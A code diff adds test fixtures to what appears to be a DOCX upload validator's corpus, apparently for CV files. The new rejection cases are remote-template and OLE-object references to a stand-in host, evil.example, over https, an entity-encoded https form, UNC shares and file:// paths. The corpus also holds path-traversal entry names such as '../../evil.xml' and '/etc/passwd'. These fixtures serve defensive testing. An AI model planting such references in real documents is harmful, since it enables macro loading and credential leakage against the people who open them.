@@ -21,6 +21,15 @@ const innerBytes = makeZip([inner]).indexOf('PK\u0001\u0002');
 const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml';
 const macros = 'application/vnd.ms-word.document.macroEnabled.main+xml';
 
+/** A document whose settings refer to something outside. */
+const referring = (kind: string, target: string): Buffer =>
+  makeDocx([
+    {
+      name: 'word/_rels/settings.xml.rels',
+      content: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`,
+    },
+  ]);
+
 export const docxCorpus: readonly CorpusFile[] = [
   good('a plain one', 'cv.docx', () => sound),
   good('one that is not compressed', 'cv.docx', () =>
@@ -40,6 +49,10 @@ export const docxCorpus: readonly CorpusFile[] = [
   good('one that speaks of macros', 'cv.docx', () => makeDocx([], { text: 'vbaProject.bin macroEnabled' })),
   good('one with a table of another program in it', 'cv.docx', () =>
     makeDocx([{ name: 'word/embeddings/t.xlsx', content: makeZip([list]) }]),
+  ),
+  good('one with a link', 'cv.docx', () => referring('hyperlink', 'https://www.example.com/?a=1&amp;b=2')),
+  good('one made from a template of its author', 'cv.docx', () =>
+    referring('attachedTemplate', 'file:///C:\\Users\\Ada\\Normal.dotm'),
   ),
   ...badOfAnyKind('.docx', () => sound),
   bad('a PDF that is called a document', 'kind', 'cv.docx', () => makePdf()),
@@ -71,6 +84,22 @@ export const docxCorpus: readonly CorpusFile[] = [
     makeDocx([], { types: '<Override PartName="/x" ContentType="macro&#69;nabled"/>' }),
   ),
   bad('a list of parts with entities', 'kind', 'cv.docx', () => makeDocx([], { types: '<!ENTITY a "b">' })),
+  bad('a template from the web', 'remote', 'cv.docx', () =>
+    referring('attachedTemplate', 'https://evil.example/a.dotm'),
+  ),
+  bad('a template from the web in disguise', 'remote', 'cv.docx', () =>
+    referring('attachedTemplate', '&#x68;ttps://evil.example/a.dotm'),
+  ),
+  bad('a template from a shared folder', 'remote', 'cv.docx', () =>
+    referring('attachedTemplate', '\\\\evil.example\\a'),
+  ),
+  bad('a template from a file of another computer', 'remote', 'cv.docx', () =>
+    referring('attachedTemplate', 'file://evil.example/a.dotm'),
+  ),
+  bad('a template from a shared folder that is written as a file', 'remote', 'cv.docx', () =>
+    referring('attachedTemplate', 'file:///\\\\evil.example\\a.dotm'),
+  ),
+  bad('an object from the web', 'remote', 'cv.docx', () => referring('oleObject', 'mhtml:http://evil.example/a!x')),
   bad('a name that leads upwards', 'damaged', 'cv.docx', () => makeDocx([{ name: '../../evil.xml', content: 'x' }])),
   bad('a name from the root', 'damaged', 'cv.docx', () => makeDocx([{ name: '/etc/passwd', content: 'x' }])),
   bad('a name of another disk', 'damaged', 'cv.docx', () => makeDocx([{ name: 'C:/evil.xml', content: 'x' }])),
